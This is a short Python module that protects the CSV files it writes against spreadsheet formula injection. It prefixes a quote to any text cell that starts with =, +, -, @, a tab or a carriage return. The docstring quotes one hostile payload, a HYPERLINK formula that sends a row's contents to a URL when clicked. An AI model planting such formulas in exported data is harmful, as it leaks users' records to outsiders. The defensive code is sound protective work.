"""Every CSV the desk writes goes through `csv_text`: no cell can be read as a formula.

A spreadsheet opening a CSV runs a cell that begins with `=`, `+`, `-` or `@` (and, in
some, one that begins with a tab or a carriage return) as a formula: a payment reference
`=HYPERLINK("http://…?"&A1,"ref")` sent the row out when the accountant clicked it. Such
a cell gets a leading `'` (OWASP's rule), which spreadsheets show as text; numbers we
write ourselves ("-12.50", -3) stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:[.,][0-9]+)?", re.ASCII)


def safe_cell(value: Any) -> Any:
    """The value as it may go into a CSV cell: text that could start a formula is quoted."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(
    rows: Iterable[Iterable[Any]], *, delimiter: str = ",", lineterminator: str = "\r\n"
) -> str:
    """The rows (the header first) as CSV text, each cell through `safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
